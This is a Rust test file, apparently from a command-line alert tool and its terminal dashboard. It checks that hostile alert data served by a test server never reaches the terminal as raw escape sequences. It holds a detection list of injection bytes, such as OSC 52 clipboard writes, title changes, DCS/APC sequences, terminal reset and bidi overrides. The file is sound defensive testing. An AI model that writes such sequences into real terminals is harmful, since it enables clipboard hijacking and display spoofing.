    tokio::time::timeout(Duration::from_secs(240), async {
        let corpus = corpus();
        let home = tempfile::tempdir().expect("temp dir");
        let built_in = built_in_server(&corpus).await;
        let routed = routed_server(&corpus).await;

        // The built-in server: titles, descriptions, assigned_to, status names.
        let (reader, _) = clients(&config_for(built_in.base_url()));
        let ids: Vec<String> =
            reader.list_alerts().await.expect("list").into_iter().map(|a| a.anomaly_id.to_string()).collect();
        let mut commands = vec![
            args(&["list"]),
            args(&["list", "--output", "json"]),
            args(&["statuses", "list"]),
            args(&["statuses", "list", "--output", "json"]),
        ];
        for id in &ids {
            commands.push(args(&["get", id]));
            commands.push(args(&["get", id, "--output", "json"]));
        }
        for (what, run) in run_all(commands, &built_in.base_url(), home.path()).await {
            assert_eq!(run.code, 0, "{what}: {}", run.stderr);
            assert_clean_run(&format!("built-in server: {what}"), &run);
            if what == "list" {
                assert_table_shape(&what, &run.stdout, corpus.len());
            } else if what.starts_with("get ") && !what.contains("json") {
                assert_detail_shape(&what, &run.stdout);
            } else if what.contains("json") {
                serde_json::from_str::<serde_json::Value>(&run.stdout).unwrap_or_else(|e| panic!("{what}: {e}"));
            }
        }
        built_in.shutdown().await;

        // The routed server: the corpus in every field, and in error answers.
        let mut commands = vec![
            args(&["list"]),
            args(&["list", "--output", "json"]),
            args(&["statuses", "list"]),
            args(&["statuses", "list", "--output", "json"]),
            args(&["get", "ano_nowhere"]),
        ];
        for i in 0..corpus.len() {
            commands.push(args(&["get", &format!("ano_hostile_{i}")]));
            commands.push(args(&["get", &format!("ano_hostile_{i}"), "--output", "json"]));
            commands.push(args(&["get", &format!("ano_error_{i}")]));
        }
        for (what, run) in run_all(commands, &routed.url, home.path()).await {
            assert_clean_run(&format!("hostile server: {what}"), &run);
            if what.contains("ano_error_") || what.contains("ano_nowhere") {
                assert_eq!(run.code, 1, "{what} fails: {}", run.stdout);
                assert!(run.stderr.starts_with("error: "), "{what}: {}", run.stderr);
                assert_eq!(run.stderr.lines().count(), 1, "{what}: one line of error: {}", run.stderr);
                continue;
            }
            assert_eq!(run.code, 0, "{what}: {}", run.stderr);
            if what == "list" {
                assert_table_shape(&what, &run.stdout, corpus.len());
            } else if what == "statuses list" {
                // Piped: no header, one line per status (the corpus and the three built-ins).
                assert_eq!(run.stdout.lines().count(), corpus.len() + 3, "{what}: one line per status");
                assert!(run.stdout.lines().all(|l| l.split('\t').count() == 3), "{what}: 3 cells a line");
            } else if what.starts_with("get ") && !what.contains("json") {
                assert_detail_shape(&what, &run.stdout);
            } else {
                serde_json::from_str::<serde_json::Value>(&run.stdout).unwrap_or_else(|e| panic!("{what}: {e}"));
            }
        }
    })
    .await
    .expect("within the time limit");
}

// ---------------------------------------------------------------------------------------------
// (c) The real dashboard in a pseudo-terminal.

/// Splits what the dashboard wrote to its terminal into escape sequences and text, and says
/// what is wrong with either: any escape but CSI (no OSC, DCS, APC, PM, SOS or plain ESC),
/// a CSI that asks the terminal something or changes it beyond drawing, any control byte
/// but CR and LF, text that is not UTF-8 or holds a forbidden character.
fn terminal_problems(raw: &[u8]) -> (Vec<String>, BTreeSet<String>) {
    let mut problems = Vec::new();
    let mut finals = BTreeSet::new();
    let mut text = Vec::with_capacity(raw.len());
    let context =
        |at: usize| String::from_utf8_lossy(&raw[at.saturating_sub(30)..(at + 30).min(raw.len())]).into_owned();
    let mut i = 0;
    while i < raw.len() {
        match raw[i] {
            0x1b if raw.get(i + 1) == Some(&b'[') => {
                let mut j = i + 2;
                while j < raw.len() && (0x30..=0x3f).contains(&raw[j]) {
                    j += 1;
                }
                while j < raw.len() && (0x20..=0x2f).contains(&raw[j]) {
                    j += 1;
                }
                match raw.get(j) {
                    Some(&end) if (0x40..=0x7e).contains(&end) => {
                        let params = String::from_utf8_lossy(&raw[i + 2..j]).into_owned();
                        // Reports (n, c), window operations (t) and scroll regions (r) are never
                        // the dashboard's: they would be a payload's.
                        if matches!(end, b'n' | b'c' | b't' | b'r' | b'i' | b'p') {
                            problems.push(format!("CSI {params}{} at {i}: {:?}", char::from(end), context(i)));
                        }
                        // Private modes by number (which mode is switched matters), others by kind.
                        let kind = if params.starts_with('?') { params.clone() } else { String::new() };
                        finals.insert(format!("{kind}{}", char::from(end)));
                        i = j + 1;
                    }
                    other => {
                        problems.push(format!("unterminated CSI ({other:?}) at {i}: {:?}", context(i)));
                        i = j;
                    }
                }
            }
            0x1b => {
                problems.push(format!("escape {:?} at {i}: {:?}", raw.get(i + 1).map(|&b| char::from(b)), context(i)));
                i += 1;
            }
            b'\r' | b'\n' => {
                text.push(raw[i]);
                i += 1;
            }
            b if b < 0x20 || b == 0x7f => {
                problems.push(format!("control byte {b:#04x} at {i}: {:?}", context(i)));
                i += 1;
            }
            b => {
                text.push(b);
                i += 1;
            }
        }
    }
    match String::from_utf8(text) {
        Ok(text) => {
            let text = text.replace(['\r', '\n'], "");
            if let Some(found) = first_forbidden(&text) {
                problems.push(format!("forbidden character in the text: {found}"));
            }
        }
        Err(e) => problems.push(format!("text is not UTF-8: {e}")),
    }
    (problems, finals)
}

/// Payload bytes that must never reach the terminal raw, whatever surrounds them.
const RAW_NEEDLES: [&str; 22] = [
    "\u{1b}]52;",
    "\u{1b}]0;",
    "\u{1b}]1;",
    "\u{1b}]2;",
    "\u{1b}]8;",
    "\u{1b}]4;",
    "\u{1b}]1337;",
    "\u{1b}P",
    "\u{1b}_",
    "\u{1b}^",
    "\u{1b}c",
    "\u{7}",
    "\u{9b}",
    "\u{9d}",
    "\u{202e}",
    "\u{202d}",
    "\u{2066}",
    "\u{2067}",
    "\u{2068}",
    "\u{200b}",
    "\u{feff}",
    "\u{e0001}",
];

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    haystack.windows(needle.len()).any(|w| w == needle)
}

/// Whether `text` is nothing but CSI sequences (and spaces): the dashboard writes some of those
/// itself (hiding the cursor, say), so finding one proves nothing.
fn only_csi(text: &str) -> bool {
    let mut rest = String::new();
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' && chars.peek() == Some(&'[') {
            chars.next();
            while chars.next_if(|c| !('\u{40}'..='\u{7e}').contains(c)).is_some() {}
            chars.next();
        } else {
            rest.push(c);
        }
    }
    rest.trim().is_empty()
}

/// Everything wrong with what reached the terminal: hostile payload bytes (the known needles,
/// and each short corpus string as sent), escapes the dashboard never writes, forbidden text.
fn terminal_leaks(raw: &[u8], corpus: &[(&'static str, String)]) -> Vec<String> {
    let mut leaks: Vec<String> = RAW_NEEDLES
        .iter()
        .filter(|needle| contains(raw, needle.as_bytes()))
        .map(|needle| format!("{needle:?} reached the terminal raw"))
        .collect();
    for (name, text) in corpus {
        // Whole payloads (the short ones) with something forbidden in them never appear as sent.
        if text.chars().any(forbidden) && text.len() < 200 && !only_csi(text) && contains(raw, text.as_bytes()) {
            leaks.push(format!("payload {name} reached the terminal raw"));
        }
    }
    let (problems, finals) = terminal_problems(raw);
    leaks.extend(problems);
    // What the dashboard itself writes: cursor positions and colours; the alternate screen,
    // bracketed paste and the cursor switched on and off; mouse reporting only switched off.
    // A new kind here needs a look: it could as well be a payload.
    let allowed = [
        "H", "m", "?1049h", "?1049l", "?2004h", "?2004l", "?25h", "?25l", "?1000l", "?1002l", "?1003l", "?1006l",
        "?1015l",
    ];
    leaks.extend(finals.iter().filter(|f| !allowed.contains(&f.as_str())).map(|f| format!("a CSI of kind {f}")));
    leaks
}

fn assert_terminal_clean(what: &str, raw: &[u8], corpus: &[(&'static str, String)]) {
    let leaks = terminal_leaks(raw, corpus);
    assert!(leaks.is_empty(), "{what}: {} problems, first: {:#?}", leaks.len(), &leaks[..leaks.len().min(5)]);
}

/// A dashboard in a 140x40 pseudo-terminal against `url`, with its own home.
fn dashboard(url: &url::Url, home: &std::path::Path) -> Pty {
    let home_dir = home.to_str().expect("utf-8 path");
    let api_key = key();
    let (config, state) = (home.join("config"), home.join("state"));
    let env = [
        ("HOME", home_dir),
        ("XDG_CONFIG_HOME", config.to_str().expect("utf-8")),
        ("XDG_STATE_HOME", state.to_str().expect("utf-8")),
        ("BLNK_API_URL", url.as_str()),
        ("BLNK_API_KEY", api_key.expose()),
    ];
    Pty::spawn(common::cli::BIN, &[], &env, 140, 40)
}

/// Walks the whole list, the detail, the edit form, the picker and help, then quits.
fn browse_everything(pty: &mut Pty, alerts: usize) {
    pty.wait_for("alerts listed", 30, |s| s.contains(&format!("Alerts {alerts}/{alerts}")));
    for _ in 0..alerts + 2 {
        pty.send("j");
        std::thread::sleep(Duration::from_millis(25));
    }
    pty.wait_text(&format!("{alerts} of {alerts}"), 10);
    pty.send("\t");
    for _ in 0..5 {
        pty.send("j");
    }
    pty.wait_text("scroll", 10);
    pty.send("\t");
    pty.send("e");
    pty.wait_text("Edit ano_", 10);
    pty.send("\u{1b}");
    pty.send("\u{1b}");
    pty.send("g");
    pty.send("e");
    pty.wait_text("Edit ano_", 10);
    pty.send("\u{1b}");
    pty.send("\u{1b}");
    pty.send("t");
    pty.wait_text("Change status", 10);
    pty.send("\u{1b}");
    pty.send("?");
    pty.wait_text("Help", 10);
    pty.send("x");
    std::thread::sleep(Duration::from_millis(300));
    pty.send("q");
    assert_eq!(pty.wait_exit(15), 0, "the dashboard quits cleanly");
}

#[test]
fn the_dashboard_writes_no_hostile_bytes_to_the_terminal() {
    deadline::within(Duration::from_secs(180), || {
        let corpus = corpus();
        let runtime = tokio::runtime::Runtime::new().expect("runtime");
        let built_in = runtime.block_on(built_in_server(&corpus));
        let home = tempfile::tempdir().expect("temp dir");
        let mut pty = dashboard(&built_in.base_url(), home.path());
        browse_everything(&mut pty, corpus.len());
        let raw = pty.raw();
        assert_terminal_clean("built-in server", &raw, &corpus);
        assert!(contains(&raw, "␛".as_bytes()), "escapes were shown as markers");
        assert_clean("the final screen", &pty.screen());
        drop(pty);
        runtime.block_on(built_in.shutdown());
    });
}

#[test]
fn the_dashboard_writes_no_hostile_bytes_with_hostile_ids_types_and_statuses() {
    deadline::within(Duration::from_secs(180), || {
        let corpus = corpus();
        let runtime = tokio::runtime::Runtime::new().expect("runtime");
        let routed = runtime.block_on(routed_server(&corpus));
        let home = tempfile::tempdir().expect("temp dir");
        let mut pty = dashboard(&routed.url, home.path());
        browse_everything(&mut pty, corpus.len());
        let raw = pty.raw();
        assert_terminal_clean("hostile server", &raw, &corpus);
        assert!(contains(&raw, "␛".as_bytes()) && contains(&raw, "\u{fffd}".as_bytes()), "markers shown");
        assert_clean("the final screen", &pty.screen());
        drop(pty);
        drop(routed);
        drop(runtime);
    });
}

/// The scan itself: what the dashboard writes passes, any payload written raw is caught.
#[test]
fn the_terminal_scan_tells_drawing_from_payloads() {
    let drawing =
        "\u{1b}[?1049h\u{1b}[?2004h\u{1b}[?25l\u{1b}[1;1H\u{1b}[38;5;8m\u{1b}[1m␛[31m Alerts\u{1b}[0m\r\n日本 \u{fffd}";
    let (problems, finals) = terminal_problems(drawing.as_bytes());
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(finals.into_iter().collect::<Vec<_>>(), ["?1049h", "?2004h", "?25l", "H", "m"]);
    let corpus = corpus();
    assert!(terminal_leaks(drawing.as_bytes(), &corpus).is_empty());
    for (name, text) in &corpus {
        let raw = format!("\u{1b}[1;1H{text}\u{1b}[0m");
        let caught = !terminal_leaks(raw.as_bytes(), &corpus).is_empty();
        // A payload of cursor hiding alone is indistinguishable from the dashboard's own.
        assert!(caught || !text.chars().any(forbidden) || text == "\u{1b}[?25l", "{name} written raw is caught");
    }
}
